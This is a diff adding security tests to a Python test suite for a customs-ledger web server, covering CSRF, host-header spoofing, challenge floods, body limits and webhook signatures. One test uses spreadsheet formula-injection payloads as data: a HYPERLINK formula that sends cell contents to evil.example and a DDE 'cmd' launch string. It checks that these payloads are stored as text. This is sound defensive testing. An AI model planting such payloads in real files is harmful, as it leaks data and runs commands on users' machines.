@@ -4,6 +4,8 @@ the published OpenAPI document, and the pages in a real browser (Debian's chromi
 
 from __future__ import annotations
 
+import collections
+import contextlib
 import csv
 import dataclasses
 import http.client
@@ -28,6 +30,7 @@ import openpyxl  # type: ignore[import-untyped]
 import pytest
 import requests
 import schemathesis
+from eth_account import Account
 from eth_account.signers.local import LocalAccount
 from hypothesis import HealthCheck
 from schemathesis.checks import not_a_server_error
@@ -37,20 +40,26 @@ from web3 import Web3
 
 from pa_client.audit.run import run_audit
 from pa_client.chain.accounts import dev_account
-from pa_client.chain.connection import open_ledger
-from pa_client.chain.deployment import save_deployment
+from pa_client.chain.connection import open_chain, open_ledger
+from pa_client.chain.deployment import deploy, save_deployment
 from pa_client.chain.ledger import LedgerClient
+from pa_client.chain.node import EmbeddedNode
+from pa_client.chain.sender import Sender
 from pa_client.dev.demo import REFERENCE, run_demo
 from pa_client.domain.codes import mrn_check_character
+from pa_client.domain.models import Placement
+from pa_client.errors import ConfigError
 from pa_client.present.audit_document import audit_document
 from pa_client.records.entries_file import COLUMNS, read_entries
 from pa_client.settings import Settings
-from pa_client.web import WebConfig, create_app, pages
+from pa_client.web import WebConfig, create_app, guards, pages
+from pa_client.web import store as web_store
 from pa_client.web.auth import sign_message
-from pa_client.web.context import WebContext
+from pa_client.web.context import WebContext, canonical_origin
+from pa_client.web.events import Event
 from pa_client.web.live import Tracker
 from pa_client.web.server import Server
-from pa_client.web.store import Store
+from pa_client.web.store import ALERTS_PER_DELIVERY, Store
 from pa_client.web.webhooks import WebhookSender
 
 CHROMIUM = "/usr/bin/chromium"
@@ -73,6 +82,7 @@ class Receiver:
     """A local HTTP server that records the POSTs it receives; a path may fail on purpose."""
 
     posts: list[tuple[str, dict[str, Any], dict[str, str]]] = field(default_factory=list)
+    raw: list[bytes] = field(default_factory=list)  # the body of each of `posts`, as received
     failing: set[str] = field(default_factory=set)
     attempts: dict[str, int] = field(default_factory=dict)
     server: http.server.ThreadingHTTPServer | None = None
@@ -82,12 +92,15 @@ class Receiver:
 
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_POST(self) -> None:
-                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-                key = f"{self.path} {body['key']}"
-                receiver.attempts[key] = receiver.attempts.get(key, 0) + 1
+                raw = self.rfile.read(int(self.headers["Content-Length"]))
+                body = json.loads(raw)
+                for alert in body["alerts"]:
+                    key = f"{self.path} {alert['key']}"
+                    receiver.attempts[key] = receiver.attempts.get(key, 0) + 1
                 if self.path in receiver.failing:
                     self.send_response(503)
                 else:
+                    receiver.raw.append(raw)
                     receiver.posts.append((self.path, body, dict(self.headers)))
                     self.send_response(204)
                 self.end_headers()
@@ -103,7 +116,8 @@ class Receiver:
         return f"http://127.0.0.1:{self.server.server_address[1]}{path}"
 
     def keys(self, path: str) -> list[str]:
-        return [body["key"] for p, body, _ in self.posts if p == path]
+        """The keys of the alerts delivered to `path`, in the order received."""
+        return [alert["key"] for p, body, _ in self.posts if p == path for alert in body["alerts"]]
 
     def stop(self) -> None:
         if self.server is not None:
@@ -200,9 +214,9 @@ def served(anvil: AnvilNode, w3: Web3, tmp_path_factory: pytest.TempPathFactory)
     )[1]
     receiver = Receiver()
     receiver.start()
-    store.add_webhook(receiver.url("/all"), None)
-    store.add_webhook(receiver.url("/holder2"), dev_account("holder2").address)
-    store.add_webhook(receiver.url("/flaky"), None, "critical")
+    store.add_webhook(receiver.url("/all"), None, allow_local=True)  # the receiver runs on this machine
+    store.add_webhook(receiver.url("/holder2"), dev_account("holder2").address, allow_local=True)
+    store.add_webhook(receiver.url("/flaky"), None, "critical", allow_local=True)
     store.close()
     receiver.failing.add("/flaky")
     app, server, thread, base = start_server(WebConfig(settings, poll_seconds=0.25))
@@ -302,10 +316,8 @@ def test_a_revoked_token_is_refused_at_once(served: Served) -> None:
     assert served.get("/api/v1/me", secret).status_code == 401
 
 
-def test_a_live_stream_opened_with_a_token_ends_once_the_token_is_revoked(
-    served: Served, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(pages, "HEARTBEAT_SECONDS", 1.0)  # the stream checks its caller at each one
+def test_a_live_stream_opened_with_a_token_ends_once_the_token_is_revoked(served: Served) -> None:
+    """A quiet stream (no event): the check runs on its timer all the same."""
     store = served.ctx.store
     token, secret = _customs_token(store, "stream")
     connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=10)
@@ -322,6 +334,56 @@ def test_a_live_stream_opened_with_a_token_ends_once_the_token_is_revoked(
                 break
         assert "event: expired" in lines, lines[-5:]
     finally:
+        connection.close()
+
+
+@pytest.mark.parametrize("via", ["token", "session"])
+def test_a_live_stream_ends_within_seconds_of_revocation_while_events_keep_coming(
+    served: Served, via: str
+) -> None:
+    """The check does not wait for a quiet moment: events arriving every 0.2 s, the stream of a
+    revoked token or a signed-out session still ends within the check's interval."""
+    store = served.ctx.store
+    session = store.create_session(dev_account("customs").address, 600)
+    token, secret = _customs_token(store, "busy stream")
+    headers = {"Authorization": f"Bearer {secret}"} if via == "token" else {"Cookie": f"pa_session={session}"}
+
+    def revoke() -> None:
+        if via == "token":
+            assert store.revoke_token(token.id)
+        else:  # signed out as a person does
+            signed_out = requests.delete(
+                served.base + "/api/v1/auth/session", cookies={"pa_session": session}
+            )
+            assert signed_out.status_code == 204
+
+    traffic, busy = threading.Event(), threading.Event()
+
+    def publish() -> None:
+        block = served.ctx.tracker.last_block
+        while not traffic.wait(0.2):
+            served.ctx.broker.publish(Event("block", None, {"block": block, "time": "", "verified": True}))
+            busy.set()
+
+    connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=10)
+    publisher = threading.Thread(target=publish, daemon=True)
+    try:
+        connection.request("GET", "/events", headers=headers)
+        response = connection.getresponse()
+        assert response.status == 200
+        publisher.start()
+        assert busy.wait(5)
+        revoke()
+        revoked = time.monotonic()
+        deadline, lines = revoked + 8, []
+        while time.monotonic() < deadline and (line := response.readline().decode()):
+            lines.append(line.strip())
+            if line.startswith("event: expired"):
+                break
+        assert "event: expired" in lines, lines[-5:]
+        assert time.monotonic() - revoked < pages.ALLOWED_CHECK_SECONDS + 1.5
+    finally:
+        traffic.set()
         connection.close()
 
 
@@ -355,6 +417,160 @@ def test_people_sign_in_with_ethereum_and_out(served: Served) -> None:
     assert session.get(served.base + "/api/v1/me").json()["authorisations"] == [served.other]
     assert session.delete(served.base + "/api/v1/auth/session").status_code == 204
     assert session.get(served.base + "/api/v1/me").status_code == 401
+
+
+def test_the_sign_in_message_names_the_servers_origin_whatever_host_the_caller_sends(
+    served: Served, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    account = dev_account("holder2")
+    port = served.base.rsplit(":", 1)[1]
+
+    def challenge(**headers: str) -> str:
+        answer = requests.post(
+            served.base + "/api/v1/auth/challenge",
+            json={"address": account.address},
+            headers=headers,
+            timeout=30,
+        )
+        assert answer.status_code == 200, answer.text
+        return str(answer.json()["message"])
+
+    message = challenge(Host="evil.example")
+    assert message.startswith(f"127.0.0.1:{port} wants you to sign in") and "evil.example" not in message
+    assert f"URI: http://127.0.0.1:{port}\n" in message
+    # Configured (`pa serve --origin`): the messages name it, and one for another domain is refused.
+    monkeypatch.setattr(served.ctx, "origin", "https://pa.example")
+    configured = challenge(Host="evil.example")
+    assert (
+        configured.startswith("pa.example wants you to sign in") and "URI: https://pa.example\n" in configured
+    )
+    refused = requests.post(
+        served.base + "/api/v1/auth/session",
+        json={"message": message, "signature": sign_message(account, message)},
+        headers={"Host": f"127.0.0.1:{port}"},
+        timeout=30,
+    )
+    assert refused.status_code == 401
+    assert (
+        refused.json()["detail"] == f"the message is for 127.0.0.1:{port}, not for this server (pa.example)"
+    )
+    opened = requests.post(
+        served.base + "/api/v1/auth/session",
+        json={"message": configured, "signature": sign_message(account, configured)},
+        timeout=30,
+    )
+    assert opened.status_code == 200 and "secure" in opened.headers["set-cookie"].lower()
+
+
+def test_an_origin_is_written_in_one_canonical_form() -> None:
+    assert canonical_origin("https://PA.example/") == "https://pa.example"
+    assert canonical_origin("https://pa.example:443") == "https://pa.example"
+    assert canonical_origin("http://127.0.0.1:8000") == "http://127.0.0.1:8000"
+    assert canonical_origin("http://[::1]:8000") == "http://[::1]:8000"
+    for bad in (
+        "pa.example",
+        "ftp://pa.example",
+        "https://u:p@pa.example",
+        "https://pa.example/path",
+        "http://x:99999",
+    ):
+        with pytest.raises(ConfigError):
+            canonical_origin(bad)
+
+
+def _fill_challenges(store: Store, count: int, requesters: int) -> None:
+    """`count` pending challenges from `requesters` callers (a flood from many addresses)."""
+    expires = time.time() + 600
+    with store._tx() as db:
+        db.executemany(
+            "INSERT INTO challenges (nonce, address, requester, message, expires) VALUES (?, ?, ?, ?, ?)",
+            [
+                (f"flood{i}", f"0x{i:040x}", f"198.51.100.{i % requesters}", "m", expires)
+                for i in range(count)
+            ],
+        )
+
+
+def test_a_flood_of_challenges_locks_no_one_out(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
+    victim = dev_account("holder2")
+    attacker = {"X-Forwarded-For": "203.0.113.7"}  # another caller, as a reverse proxy on this host says
+
+    def challenge(address: str, headers: dict[str, str] | None = None) -> requests.Response:
+        return requests.post(
+            served.base + "/api/v1/auth/challenge",
+            json={"address": address},
+            headers=headers or {},
+            timeout=30,
+        )
+
+    own = challenge(victim.address).json()["message"]
+    monkeypatch.setattr(web_store, "MAX_CHALLENGES", 200)
+    asked = [
+        challenge(victim.address if i % 4 == 0 else Account.create().address, attacker) for i in range(300)
+    ]
+    assert {answer.status_code for answer in asked} == {200}  # the attacker only replaces its own
+    assert challenge(Account.create().address).status_code == 200  # everyone else still signs in
+    opened = requests.post(
+        served.base + "/api/v1/auth/session",
+        json={"message": own, "signature": sign_message(victim, own)},
+        timeout=30,
+    )
+    assert opened.status_code == 200, opened.text  # the victim's own challenge was kept
+    # Full (a flood from more callers than the store has room for): refused with 429, never a 500.
+    monkeypatch.setattr(web_store, "MAX_CHALLENGES", 1_000)
+    _fill_challenges(served.ctx.store, 1_000, 100)
+    try:
+        assert challenge(victim.address).status_code == 429
+        dev = requests.post(served.base + "/signin/dev", data={"alias": "customs", "next": "/"}, timeout=30)
+        assert dev.status_code == 429 and "too many sign-ins" in dev.text
+    finally:
+        with served.ctx.store._tx() as db:
+            db.execute("DELETE FROM challenges WHERE nonce LIKE 'flood%'")
+
+
+def test_no_other_site_can_sign_a_visitor_in_or_post_for_them(served: Served) -> None:
+    """Login CSRF: a page elsewhere auto-submitting the sign-in form (with the attacker's signed
+    message, or the development sign-in) must not open a session in the visitor's browser."""
+    account = dev_account("holder2")
+    own = served.base
+    message = requests.post(
+        own + "/api/v1/auth/challenge", json={"address": account.address}, timeout=30
+    ).json()["message"]
+    form = {"message": message, "signature": sign_message(account, message), "next": "/"}
+    for headers in (
+        {"Origin": "https://evil.example"},
+        {"Referer": "https://evil.example/page"},
+        {"Origin": "null"},
+    ):
+        for path, data in (
+            ("/signin", form),
+            ("/signin/dev", {"alias": "customs", "next": "/"}),
+            ("/signout", {}),
+        ):
+            refused = requests.post(own + path, data=data, headers=headers, allow_redirects=False, timeout=30)
+            assert refused.status_code == 403, (path, headers, refused.status_code)
+            assert "pa_session" not in refused.cookies
+        api = requests.post(
+            own + "/api/v1/auth/session",
+            json={"message": message, "signature": form["signature"]},
+            headers=headers,
+        )
+        assert api.status_code == 403 and "another site" in api.json()["detail"]
+    # The server's own pages (the browser names their origin), and systems (no Origin), are served.
+    signed_in = requests.post(
+        own + "/signin", data=form, headers={"Origin": own}, allow_redirects=False, timeout=30
+    )
+    assert signed_in.status_code == 303 and "pa_session" in signed_in.cookies
+
+
+def test_every_answer_forbids_framing_and_foreign_scripts(served: Served) -> None:
+    for path in ("/signin", "/", "/api/v1/health", "/static/live.js", "/no-such-page"):
+        answer = requests.get(served.base + path, timeout=30)
+        assert answer.headers["X-Frame-Options"] == "DENY", path
+        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"], path
+        assert "script-src 'self'" in answer.headers["Content-Security-Policy"], path
+        assert answer.headers["Referrer-Policy"] == "same-origin", path
+        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
 
 
 def test_pages_of_another_holders_authorisation_are_refused_by_url(served: Served) -> None:
@@ -496,6 +712,48 @@ def test_a_read_only_token_or_a_session_does_not_submit(served: Served) -> None:
     assert refused.status_code == 403
 
 
+def _announce(served: Served, path: str, length: int, headers: dict[str, str]) -> http.client.HTTPResponse:
+    """A POST announcing a body of `length` bytes of which only the first KiB is sent: the answer
+    comes before the body, or not at all (a time-out) when the server waits for it."""
+    connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=5)
+    connection.putrequest("POST", path)
+    for name, value in {"Content-Type": "application/json", "Content-Length": str(length), **headers}.items():
+        connection.putheader(name, value)
+    connection.endheaders()
+    connection.send(b'{"entries": [' + b" " * 1000)
+    return connection.getresponse()
+
+
+def test_a_body_is_not_read_before_its_caller_is_known_nor_beyond_its_limit(
+    served: Served, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    huge = 64 * 1024 * 1024
+    refused = _announce(served, "/api/v1/entries", huge, {})
+    assert refused.status == 401 and refused.getheader("WWW-Authenticate") == "Bearer"
+    bearer = {"Authorization": f"Bearer {served.tokens['broker']}"}
+    too_large = _announce(served, "/api/v1/entries", served.ctx.config.max_body_bytes + 1, bearer)
+    assert too_large.status == 413
+    assert "larger than the 33,554,432 bytes" in json.loads(too_large.read())["detail"]
+    assert _announce(served, "/api/v1/auth/challenge", 100_000, {}).status == 413  # sign-in: 64 KiB
+    assert (
+        _announce(served, "/signin", 100_000, {"Content-Type": "application/x-www-form-urlencoded"}).status
+        == 413
+    )
+    # A body sent without a length is read up to the limit only.
+    monkeypatch.setattr(served.ctx, "config", dataclasses.replace(served.ctx.config, max_body_bytes=10_000))
+    chunks = (b'{"entries": [' + b" " * 1000 for _ in range(50))
+    streamed = requests.post(
+        served.base + "/api/v1/entries",
+        data=chunks,
+        headers={**bearer, "Content-Type": "application/json"},
+        timeout=30,
+    )
+    assert streamed.status_code == 413
+    # Within the limit, a submission is read as before.
+    entries = {"entries": [placement_json("API-IM-LIMIT", "API-LOT-LIMIT")], "dry_run": True}
+    assert served.post("/api/v1/entries", entries, served.tokens["broker"]).json()["status"] == "checked"
+
+
 # ---------------------------------------------------------------- the audit and the alerts
 
 
@@ -544,6 +802,92 @@ def test_the_bill_of_discharge_downloads_as_xlsx(served: Served) -> None:
     assert bill.json()["authorisation"] == REFERENCE and bill.json()["placements"]
 
 
+def test_text_fields_with_control_characters_or_a_lone_surrogate_are_refused(served: Served) -> None:
+    entry = {
+        **placement_json("CTRL-1\x00", "API-LOT-CTRL"),
+        "description": "Tread\x0b rubber \x1b[31mred",
+        "site": "SITE-\ud800",
+    }
+    answer = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
+    assert answer.status_code == 422, answer.text
+    texts = sorted(problem["text"] for problem in answer.json()["problems"])
+    printable = "a record's text holds printable characters only"
+    assert texts == [
+        f"entries[0]: field 'description' = 'Tread\\x0b rubber \\x1b[31mred': holds the control character "
+        f"U+000B at character 6; {printable}",
+        f"entries[0]: field 'entry_ref' = 'CTRL-1\\x00': holds the control character U+0000 at character 7; "
+        f"{printable}",
+        "entries[0]: field 'site' = 'SITE-\\ud800': holds a lone surrogate (U+D800) at character 6, which is not text",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("moment", "message"),
+    [
+        ("0001-01-01T00:00:00-14:00", "before 1970-01-01, the earliest moment the ledger holds (Unix time)"),
+        ("0001-01-01T00:00:00+14:00", "out of the range of date-times (years 1 to 9999 in UTC)"),
+        ("9999-12-31T23:59:59-14:00", "out of the range of date-times (years 1 to 9999 in UTC)"),
+    ],
+)
+def test_a_moment_the_ledger_cannot_hold_is_refused(served: Served, moment: str, message: str) -> None:
+    entry = {**placement_json("API-IM-YEAR", "API-LOT-YEAR"), "occurred_at": moment}
+    for dry_run in (True, False):
+        answer = served.post(
+            "/api/v1/entries", {"entries": [entry], "dry_run": dry_run}, served.tokens["broker"]
+        )
+        assert answer.status_code == 422, answer.text
+        assert [p["text"] for p in answer.json()["problems"]] == [
+            f"entries[0]: field 'occurred_at' = '{moment}': {message}"
+        ]
+
+
+def test_the_downloaded_bill_holds_control_characters_already_on_the_chain(served: Served) -> None:
+    """Recorded straight to the ledger (another client, or before the reader refused them)."""
+    broker = LedgerClient(served.customs.w3, served.customs.deployment, dev_account("broker"))
+    placement = read_json_placement(placement_json("CTRL-2\x00", "API-LOT-\x1b[31mRED"))
+    broker.record(placement.model_copy(update={"description": "Tread\x0b rubber \x1b[31mred"}))
+    session = served.ctx.store.create_session(dev_account("holder").address, 600)
+
+    def downloaded() -> Any:
+        answer = served.get(
+            f"/authorisations/{REFERENCE}/bill.xlsx?from=2019-08-01&to=2019-12-31",
+            cookies={"pa_session": session},
+        )
+        assert answer.status_code == 200
+        workbook = openpyxl.load_workbook(BytesIO(answer.content))
+        values = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
+        return values if "CTRL-2\\x00" in values else None
+
+    values = _wait(downloaded, 10)
+    assert values and {"API-LOT-\\x1b[31mRED", "Tread\\x0b rubber \\x1b[31mred"} <= values
+
+
+def read_json_placement(entry: dict[str, Any]) -> Placement:
+    """An entry of the API's JSON as the model (the reader's checks left out)."""
+    return Placement.model_validate({k: v for k, v in entry.items() if k != "kind"})
+
+
+def test_the_downloaded_bill_holds_a_declarants_formula_as_text(served: Served) -> None:
+    lot = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    entry = {**placement_json("API-IM-FORMULA", lot), "site": "=cmd|' /C calc'!A0"}
+    assert served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"]).status_code == 200
+    session = served.ctx.store.create_session(dev_account("holder").address, 600)
+    period = "from=2019-08-01&to=2019-12-31"  # the placement's period for discharge ends 30 Sep 2019
+
+    def downloaded() -> Any:
+        answer = served.get(
+            f"/authorisations/{REFERENCE}/bill.xlsx?{period}", cookies={"pa_session": session}
+        )
+        assert answer.status_code == 200
+        workbook = openpyxl.load_workbook(BytesIO(answer.content))
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        return cells if any(cell.value == lot for cell in cells) else None
+
+    cells = _wait(downloaded, 10)
+    assert cells, "the placement is not in the bill"
+    assert [cell.value for cell in cells if cell.data_type == "f"] == []
+
+
 def test_each_new_alert_is_posted_once_to_the_webhooks_that_want_it(served: Served) -> None:
     receiver = served.receiver
     alerts = served.get("/api/v1/alerts", served.tokens["customs"]).json()["alerts"]
@@ -552,11 +896,21 @@ def test_each_new_alert_is_posted_once_to_the_webhooks_that_want_it(served: Serv
     assert len(receiver.keys("/all")) == len(set(receiver.keys("/all")))  # once each
     _path, body, headers = next(p for p in receiver.posts if p[0] == "/all")
     assert (
-        headers["Idempotency-Key"] == body["key"]
+        headers["Idempotency-Key"] == body["delivery"]
         and body["ledger"]["ledger"] == served.ctx.ledger.deployment.ledger
     )
+    # An audit's new alerts go together: the sample season's first audit in few POSTs.
+    first = len([p for p, _, _ in receiver.posts if p == "/all"])
+    assert first < len(everything) and all(
+        len(b["alerts"]) <= ALERTS_PER_DELIVERY for _, b, _ in receiver.posts
+    )
     # The webhook bound to holder2 gets none of the sample season's alerts (holder2 may not see them).
-    assert all(body["authorisation"] == served.other for p, body, _ in receiver.posts if p == "/holder2")
+    assert all(
+        alert["authorisation"] == served.other
+        for p, body, _ in receiver.posts
+        if p == "/holder2"
+        for alert in body["alerts"]
+    )
     # A failing webhook is retried with backoff, then delivered once.
     critical = {a["key"] for a in alerts if a["severity"] == "critical"}
     assert _wait(lambda: all(receiver.attempts.get(f"/flaky {k}", 0) >= 2 for k in critical), 20)
@@ -564,6 +918,34 @@ def test_each_new_alert_is_posted_once_to_the_webhooks_that_want_it(served: Serv
     served.ctx.webhooks.nudge()
     assert _wait(lambda: set(receiver.keys("/flaky")) == critical, 20)
     assert len(receiver.keys("/flaky")) == len(critical)
+
+
+def _documented_verify() -> Callable[[str, bytes, str], bool]:
+    """The receiver's check as docs/web.md gives it, run as written."""
+    text = (Path(__file__).resolve().parent.parent / "docs" / "web.md").read_text(encoding="utf-8")
+    section = text[text.index("#### Checking a delivery's signature") :]
+    code = section[section.index("```python\n") + len("```python\n") : section.index("```\n", 10)]
+    namespace: dict[str, Any] = {}
+    exec(compile(code, "docs/web.md", "exec"), namespace)
+    verify: Callable[[str, bytes, str], bool] = namespace["verify"]
+    return verify
+
+
+def test_each_delivery_is_signed_with_its_webhooks_secret(served: Served) -> None:
+    verify = _documented_verify()
+    secret = next(h.secret for h in served.ctx.store.webhooks() if h.url.endswith("/all"))
+    assert secret.startswith("whsec_")
+    assert _wait(lambda: any(path == "/all" for path, _, _ in served.receiver.posts), 20)
+    delivered = [
+        (raw, {name.lower(): value for name, value in headers.items()}["x-pa-signature"])
+        for (path, _, headers), raw in zip(served.receiver.posts, served.receiver.raw, strict=True)
+        if path == "/all"
+    ]
+    assert delivered and all(verify(secret, raw, signed) for raw, signed in delivered)
+    raw, signed = delivered[0]
+    assert not verify(secret, raw + b" ", signed)  # another body
+    assert not verify("whsec_other", raw, signed)  # another secret
+    assert not verify(secret, raw, re.sub(r"t=\d+", "t=1000000000", signed))  # a replay of long ago
 
 
 def test_alerts_are_not_lost_or_repeated_across_a_restart(served: Served) -> None:
@@ -641,12 +1023,73 @@ def test_the_live_stream_carries_only_what_its_account_may_see(served: Served) -
             connection.close()
 
 
+# ---------------------------------------------------------------- the node stopped, and back on another port
+
+
+def test_the_server_answers_502_while_its_node_is_down_and_follows_it_to_another_port(
+    tmp_path: Path,
+) -> None:
+    """An embedded node of its own (`pa node start`), really stopped, then started again: Anvil picks
+    another free port, which the server finds in the node's node.json."""
+    settings = Settings(data_dir=tmp_path / "data", node_state_interval=1)
+    node = EmbeddedNode(settings)
+    first = node.start().rpc_url
+    try:
+        w3 = open_chain(settings)
+        deployment = deploy(Sender(w3, dev_account("customs")))
+        save_deployment(settings.data_dir, deployment)
+        customs = LedgerClient(w3, deployment, dev_account("customs"))
+        reference = factories.fresh_reference("FRIPON")
+        customs.register(factories.authorisation(reference))
+        customs_address = dev_account("customs").address
+        with Store.for_data_dir(settings.data_dir) as store:
+            _, token = _customs_token(store, "node down")
+            session = store.create_session(customs_address, 600)
+        _app, server, thread, base = start_server(WebConfig(settings, poll_seconds=0.25))
+        holder = LedgerClient(w3, deployment, dev_account("holder"))
+        holder.record(factories.placement(reference, "DOWN-P1", "DOWN-L1"))
+        bearer = {"Authorization": f"Bearer {token}"}
+        entry = f"{base}/api/v1/authorisations/{reference}/entries/DOWN-P1"
+        assert _wait(lambda: requests.get(entry, headers=bearer, timeout=30).json()["status"] == "recorded")
+        time.sleep(1.5)  # the node's state saved once with the record
+        try:
+            assert node.stop()
+            answers = {
+                "entry status": requests.get(entry, headers=bearer, timeout=60),
+                "record page": requests.get(
+                    f"{base}/authorisations/{reference}/records/DOWN-P1",
+                    cookies={"pa_session": session},
+                    timeout=60,
+                ),
+            }
+            statuses = {name: answer.status_code for name, answer in answers.items()}
+            assert statuses == {"entry status": 502, "record page": 502}
+            assert answers["entry status"].json()["detail"].startswith("the ledger did not answer")
+            # Started again: `pa node start` picks a free port, another one.
+            moved = EmbeddedNode(settings.model_copy(update={"node_port": _free_port()})).start().rpc_url
+            assert moved != first
+            again = requests.get(entry, headers=bearer, timeout=60)
+            assert again.status_code == 200 and again.json()["status"] == "recorded"
+
+            def health() -> dict[str, Any]:
+                answer: dict[str, Any] = requests.get(base + "/api/v1/health", timeout=30).json()
+                return answer
+
+            assert _wait(lambda: health()["error"] is None, 20), health()
+        finally:
+            server.stop()
+            thread.join(15)
+    finally:
+        node.stop()
+
+
 # ---------------------------------------------------------------- schemathesis
 
 
-def test_no_generated_request_makes_a_server_error(served: Served) -> None:
+def test_no_generated_request_makes_a_server_error(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
     """Every operation of the published OpenAPI document, with generated valid and invalid requests,
-    as a system with a token (a read-only one: nothing generated is recorded) and as no one."""
+    as a system with a token (a read-only one: nothing generated is recorded) and as no one; then
+    against the guards' limits: bodies beyond a tight limit (413), requests from another site (403)."""
     schema = schemathesis.openapi.from_url(served.base + "/openapi.json")
     operations = [result.ok() for result in schema.get_all_operations()]  # type: ignore[union-attr]
     assert {op.path for op in operations} >= {
@@ -657,41 +1100,66 @@ def test_no_generated_request_makes_a_server_error(served: Served) -> None:
     }
     examples = int(os.environ.get("PA_WEB_FUZZ_EXAMPLES", "8"))
     token = {"Authorization": f"Bearer {served.tokens['customs']}"}
+    elsewhere = {**token, "Origin": "https://evil.example"}
     runs = [
-        (schemathesis.GenerationMode.POSITIVE, token, examples),
-        (schemathesis.GenerationMode.NEGATIVE, token, examples),
-        (schemathesis.GenerationMode.POSITIVE, {}, 3),
+        (schemathesis.GenerationMode.POSITIVE, token, examples, False),
+        (schemathesis.GenerationMode.NEGATIVE, token, examples, False),
+        (schemathesis.GenerationMode.POSITIVE, {}, 3, False),
+        (schemathesis.GenerationMode.POSITIVE, token, 4, True),  # bodies beyond 64 bytes refused
+        (schemathesis.GenerationMode.NEGATIVE, elsewhere, 3, False),
     ]
     document = served.get("/openapi.json").json()
     calls = 0
+    statuses: collections.Counter[int] = collections.Counter()
+    tight = dataclasses.replace(served.ctx.config, max_body_bytes=64)
     for operation in operations:
         spec = document["paths"][operation.path][operation.method.lower()]
-        for mode, headers, count in runs:
-            if mode is schemathesis.GenerationMode.NEGATIVE and not (
-                spec.get("requestBody") or spec.get("parameters")
-            ):
-                continue  # nothing of the request can be made invalid
-
-            @hypothesis.settings(
-                max_examples=count,
-                deadline=None,
-                database=None,
-                derandomize=True,
-                suppress_health_check=list(HealthCheck),
-                phases=[hypothesis.Phase.explicit, hypothesis.Phase.generate],
-            )
-            @hypothesis.given(case=operation.as_strategy(mode, headers=headers))
-            def check(case: schemathesis.Case[Any]) -> None:
-                nonlocal calls
-                calls += 1
-                response = case.call(base_url=served.base, timeout=30)
-                case.validate_response(response, checks=[not_a_server_error])
-
-            try:
-                check()
-            except hypothesis.errors.Unsatisfiable:
-                continue  # nothing invalid can be made of this operation (e.g. no parameters)
+        for mode, headers, count, limited in runs:
+            with monkeypatch.context() as limits:
+                if limited:
+                    limits.setattr(served.ctx, "config", tight)
+                    limits.setattr(guards, "SMALL_BODY_BYTES", 64)
+                calls += _generated_calls(served, operation, spec, mode, headers, count, statuses)
     assert calls > 8 * len(operations)
+    assert statuses[413] and statuses[403] and not [s for s in statuses if s >= 500]
+
+
+def _generated_calls(
+    served: Served,
+    operation: Any,
+    spec: dict[str, Any],
+    mode: schemathesis.GenerationMode,
+    headers: dict[str, str],
+    count: int,
+    statuses: collections.Counter[int],
+) -> int:
+    """Sends up to `count` generated requests of `operation`, each checked not to make a server
+    error, counting their statuses; returns how many were sent."""
+    if mode is schemathesis.GenerationMode.NEGATIVE and not (
+        spec.get("requestBody") or spec.get("parameters")
+    ):
+        return 0  # nothing of the request can be made invalid
+    calls = 0
+
+    @hypothesis.settings(
+        max_examples=count,
+        deadline=None,
+        database=None,
+        derandomize=True,
+        suppress_health_check=list(HealthCheck),
+        phases=[hypothesis.Phase.explicit, hypothesis.Phase.generate],
+    )
+    @hypothesis.given(case=operation.as_strategy(mode, headers=headers))
+    def check(case: schemathesis.Case[Any]) -> None:
+        nonlocal calls
+        calls += 1
+        response = case.call(base_url=served.base, timeout=30)
+        statuses[response.status_code] += 1
+        case.validate_response(response, checks=[not_a_server_error])
+
+    with contextlib.suppress(hypothesis.errors.Unsatisfiable):  # nothing invalid can be made of it
+        check()
+    return calls
 
 
 # ---------------------------------------------------------------- in a real browser
